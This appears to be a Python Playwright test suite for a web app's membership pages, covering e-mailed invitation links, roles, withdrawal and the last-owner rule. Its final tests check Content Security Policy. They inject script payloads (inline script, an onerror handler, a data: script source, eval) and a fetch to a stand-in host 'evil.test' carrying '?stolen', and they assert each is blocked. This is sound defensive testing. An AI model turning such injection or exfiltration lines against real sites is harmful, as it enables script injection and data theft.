"""People come, change and go on the page: the mail's link, roles, and the end of a membership."""

from __future__ import annotations

import email
import re
import time
from collections.abc import Callable
from email.policy import default

import httpx
import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Complaints, Owner
from tests.browser.places import Site
from tests.conftest import PASSWORD, StackUnderTest, User

ARRIVAL_SECONDS = 10.0


def _link(stack: StackUnderTest, recipient: str) -> str:
    """The link in the newest mail to an address; waits for one."""
    deadline = time.monotonic() + ARRIVAL_SECONDS
    with httpx.Client(base_url=stack.mailbox_url, timeout=10) as box:
        while time.monotonic() < deadline:
            found = box.get("/api/v1/search", params={"query": f"to:{recipient}"}).json()["messages"]
            if found:
                raw = box.get(f"/api/v1/message/{found[0]['ID']}/raw").content
                text = str(email.message_from_bytes(raw, policy=default).get_content())
                link = re.search(r"https?://\S+/invitation#[0-9a-f]{64}", text)
                assert link is not None, text
                return link[0]
    raise AssertionError(f"no mail to {recipient}")


def test_somebody_is_invited_joins_by_the_mails_link_and_is_removed(
    new_owner: Callable[..., Owner],
    new_site: Callable[..., Site],
    new_user: Callable[[], User],
    stack: StackUnderTest,
) -> None:
    owner, guest = new_owner(10), new_user()
    page = owner.site.page
    owner.open("members")
    page.get_by_role("button", name="Invite somebody").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("E-mail").fill(guest.email)
    dialog.get_by_label("Role").select_option("Billing")
    dialog.get_by_role("button", name="Send invitation").click()
    waiting = owner.site.card("Open invitations")
    expect(waiting).to_contain_text(guest.email)
    owner.site.shoot("01-invited")

    theirs = new_site()
    theirs.page.goto(_link(stack, guest.email))
    theirs.page.get_by_label("E-mail").fill(guest.email)
    theirs.page.get_by_label("Password").fill(PASSWORD)
    theirs.page.get_by_role("button", name="Sign in", exact=True).click()
    expect(theirs.page.get_by_role("heading", level=1)).to_have_text("You have been invited")
    theirs.shoot("02-the-link")
    theirs.page.get_by_role("button", name="Accept invitation").click()
    expect(theirs.page.get_by_role("heading", level=1)).to_have_text(owner.organization.name)
    assert "invitation" not in theirs.page.url
    expect(theirs.available).to_be_visible()

    page.reload()
    role = page.get_by_label(f"Role of {guest.user_id}")
    expect(role).to_have_value("billing")
    expect(waiting).to_contain_text("No open invitations")
    role.select_option("Admin")
    expect(role).to_have_value("admin")
    theirs.open(f"/organizations/{owner.organization.organization_id}/members")
    expect(theirs.page.get_by_role("button", name="Invite somebody")).to_be_visible()

    page.get_by_role("button", name=f"Remove {guest.user_id}").click()
    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
    expect(role).to_have_count(0)
    theirs.page.reload()
    expect(theirs.page.get_by_role("heading", level=1)).to_have_text("You belong to no organization yet")


def test_an_invitation_is_withdrawn_on_the_page_and_its_link_says_so(
    new_owner: Callable[..., Owner],
    new_site: Callable[..., Site],
    new_user: Callable[[], User],
    stack: StackUnderTest,
    complaints: Complaints,
) -> None:
    owner, guest = new_owner(), new_user()
    page = owner.site.page
    owner.open("members")
    page.get_by_role("button", name="Invite somebody").click()
    page.get_by_role("dialog").get_by_label("E-mail").fill(guest.email)
    page.get_by_role("dialog").get_by_role("button", name="Send invitation").click()
    page.get_by_role("button", name=f"Withdraw the invitation of {guest.email}").click()
    expect(owner.site.card("Open invitations")).to_contain_text("No open invitations")
    theirs = new_site()
    theirs.sign_in(guest.email, PASSWORD)
    theirs.page.goto(_link(stack, guest.email))
    theirs.page.get_by_role("button", name="Accept invitation").click()
    expect(theirs.page.get_by_role("alert")).to_contain_text("This invitation is not good")
    complaints.texts.clear()  # Chromium logs every 404


def test_the_last_owner_is_told_why_they_cannot_leave(
    new_owner: Callable[..., Owner], complaints: Complaints
) -> None:
    owner = new_owner()
    owner.open("members")
    owner.site.page.get_by_role("button", name="Leave").click()
    dialog = owner.site.page.get_by_role("dialog")
    dialog.get_by_role("button", name="Leave").click()
    expect(dialog.get_by_role("alert")).to_contain_text("keeps at least one owner")
    complaints.texts.clear()  # Chromium logs every 409


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param(
            "document.body.append(Object.assign(document.createElement('script'), "
            "{textContent: 'window.broken = true'}))",
            id="an inline script",
        ),
        pytest.param(
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.broken = true\">')",
            id="a handler in markup",
        ),
        pytest.param(
            "document.body.append(Object.assign(document.createElement('script'), "
            "{src: 'data:text/javascript,window.broken=true'}))",
            id="a script of elsewhere",
        ),
        pytest.param("setTimeout(() => { try { eval('window.broken = true') } catch {} })", id="eval"),
    ],
)
def test_what_is_smuggled_into_the_page_does_not_run(
    attack: str, new_owner: Callable[..., Owner], complaints: Complaints
) -> None:
    page = new_owner().site.page
    violated = page.evaluate(
        "() => new Promise((resolve) => { document.addEventListener('securitypolicyviolation', "
        f"(event) => resolve(event.effectiveDirective)); {attack}; }})"
    )
    assert violated.startswith("script-src")
    assert page.evaluate("window.broken") is None
    complaints.texts.clear()


def test_the_page_sends_nothing_to_another_host(
    new_owner: Callable[..., Owner], complaints: Complaints
) -> None:
    page = new_owner().site.page
    said = page.evaluate("() => fetch('https://evil.test/?stolen').then(() => 'sent', () => 'refused')")
    assert said == "refused"
    assert any("connect-src" in text for text in complaints.texts)
    complaints.texts.clear()
